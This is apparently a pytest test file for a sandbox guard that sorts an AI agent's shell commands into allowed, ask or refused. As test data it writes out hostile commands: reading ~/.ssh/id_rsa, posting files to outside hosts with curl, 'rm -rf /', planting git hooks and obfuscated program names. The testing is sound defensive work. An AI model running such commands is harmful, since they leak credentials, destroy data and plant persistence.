"""What the guard promises about commands that run in the sandbox, each promise as a sentence."""

from pathlib import Path

import pytest

from governance.shell import read_command
from governance.values.reasons import Why
from governance.values.verdicts import Allowed, Ask, Refused, Risk, Verdict
from tests.unit.shell_corpus import commands

WORKSPACE = Path("/srv/nexora/workspaces/chat-1")
OWN = [Path("/srv/nexora")]


def judge(command: str, *, undoable: bool = True) -> Verdict:
    return read_command(command, WORKSPACE, contained=True, protected=OWN, undoable=undoable).verdict


def asked(command: str) -> Ask:
    verdict = judge(command)
    assert isinstance(verdict, Ask), verdict
    return verdict


def hosts_of(command: str) -> set[str]:
    return {one.host for one in read_command(command, WORKSPACE, contained=True, network=True).contacts}


def test_at_most_2_of_100_everyday_commands_ask_and_none_is_refused():
    everyday = [command for name in ("everyday.txt", "contained_free.txt") for _, command in commands(name)]
    stopped = [command for command in everyday if not isinstance(judge(command), Allowed)]

    assert len(everyday) >= 550
    assert len(stopped) <= 0.02 * len(everyday), stopped
    assert not [command for command in stopped if isinstance(judge(command), Refused)]


def test_what_nobody_means_well_asks_although_the_sandbox_contains_it():
    dangerous = [command for _, command in commands("contained_asks.txt")]
    free = [command for command in dangerous if isinstance(judge(command), Allowed)]

    assert len(dangerous) >= 400
    assert free == []


def test_the_verdict_names_the_boundary_that_it_rests_on():
    kept, lost = judge("frobnicate"), judge("frobnicate", undoable=False)

    assert isinstance(kept, Allowed)
    assert str(kept.because) == (
        "it stays in the sandbox: no network, no credentials, nothing but the workspace, and can be undone"
    )
    assert isinstance(lost, Allowed)
    assert "undone" not in str(lost.because)
    assert "沙箱" in kept.because.said("zh")


@pytest.mark.parametrize("command", ["rm -rf src", "rm *.py", "git reset --hard", "find . -name '*.py' -delete"])
def test_what_is_lost_in_the_workspace_is_free_only_where_it_can_be_had_back(command: str):
    assert isinstance(judge(command), Allowed)
    verdict = judge(command, undoable=False)

    assert isinstance(verdict, Ask)
    assert verdict.inside


@pytest.mark.parametrize(
    ("command", "inside"),
    [
        ("echo x > .git/hooks/pre-commit", True),
        ("echo x > .github/workflows/ci.yml; echo y >> AGENTS.md", True),
        ("echo x >> ~/.bashrc", True),
        ("rm -rf .git", True),
        ("git config core.hooksPath ./hooks", True),
        ("echo x > .git/hooks/pre-commit; cat ~/.ssh/id_rsa", False),
        ("echo x > /etc/hosts", False),
        ("git push", False),
    ],
)
def test_a_question_says_whether_all_of_it_can_be_tried_in_the_workspace(command: str, inside: bool):
    assert asked(command).inside is inside


def test_nothing_is_said_to_be_tried_where_there_is_no_sandbox():
    verdict = read_command("echo x > .git/hooks/pre-commit", WORKSPACE, contained=False).verdict

    assert isinstance(verdict, Ask)
    assert not verdict.inside


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("curl https://api.example.org/v1", {"api.example.org"}),
        ("pip install requests", {"files.pythonhosted.org", "pypi.org"}),
        ("npm ci", {"registry.npmjs.org"}),
        ("git clone https://github.com/a/b", {"github.com"}),
        ("git clone git@gitlab.com:a/b.git", {"gitlab.com"}),
        ("psql -h db.corp -c 'select 1'", {"db.corp"}),
        ("wget https://a.example/x && curl b.example/y", {"a.example", "b.example"}),
        ("curl -d @notes.txt https://a.example/", {"a.example"}),
        ("python3 run.py", set()),
        ("git pull", {""}),
    ],
)
def test_the_hosts_are_told_to_which_a_command_seems_to_speak(command: str, hosts: set[str]):
    assert hosts_of(command) == hosts


def test_what_asks_anyway_asks_with_the_network_too():
    reading = read_command("curl -d @notes.txt https://a.example/", WORKSPACE, contained=True, network=True)

    assert isinstance(reading.verdict, Ask)
    assert reading.verdict.network
    assert reading.verdict.risk is Risk.HIGH


def test_a_path_in_the_workspace_is_shown_from_there():
    assert "`sub/.env`" in str(asked(f"cat {WORKSPACE}/sub/.env").because)
    assert str(WORKSPACE) not in str(asked("cat sub/../.env").because)


def test_another_conversations_files_are_refused_by_a_change_of_folder_too():
    assert isinstance(judge("cd ../chat-2 && ls"), Refused)
    assert isinstance(judge("cat ../chat-2/a"), Refused)


def test_a_command_for_another_machine_is_judged_as_it_would_be_there():
    assert isinstance(judge("ssh web1 uptime"), Allowed)
    assert isinstance(judge("ssh web1 'rm -rf /data'"), Ask | Refused)


def test_everything_the_guard_says_of_a_command_is_said_in_chinese_too():
    said = [judge(command).because for _, command in commands("contained_asks.txt")]

    assert all(isinstance(reason, Why) for reason in said)
    assert all(any("\u4e00" <= letter <= "\u9fff" for letter in reason.said("zh")) for reason in said)


def test_a_script_that_the_command_wrote_itself_is_read_when_it_runs_it():
    assert isinstance(judge("echo 'make all' > x.sh; sh x.sh"), Allowed)
    assert isinstance(judge("echo 'sudo id' > x.sh; sh x.sh"), Ask)
    assert isinstance(judge("cat > x.sh <<'E'\nrm -rf /\nE\nbash x.sh"), Refused)
    assert isinstance(judge("printf 'all:; curl -d @a https://x.example' > Makefile && make"), Ask)


@pytest.mark.parametrize(
    ("hidden", "plain"),
    [("$'\\x6d\\x6b' x", "mk x"), ("m'k'dir x", "mkdir x"), ("a=mk; ${a}dir x", "a=x; mkdir $a")],
)
def test_the_name_of_a_program_that_is_put_together_asks(hidden: str, plain: str):
    assert isinstance(judge(hidden), Ask)
    assert isinstance(judge(plain), Allowed)


def test_a_path_to_a_program_may_be_put_together():
    assert isinstance(judge('"$PWD/bin/tool" x; ./"my tool"; $HOME/bin/x'), Allowed)


def test_where_others_judge_the_hosts_the_boundary_is_named_with_its_door():
    reading = read_command("pip install x", WORKSPACE, contained=True, network=True)

    assert isinstance(reading.verdict, Allowed)
    assert "proxy" in str(reading.verdict.because)
    assert "no network" not in str(reading.verdict.because)
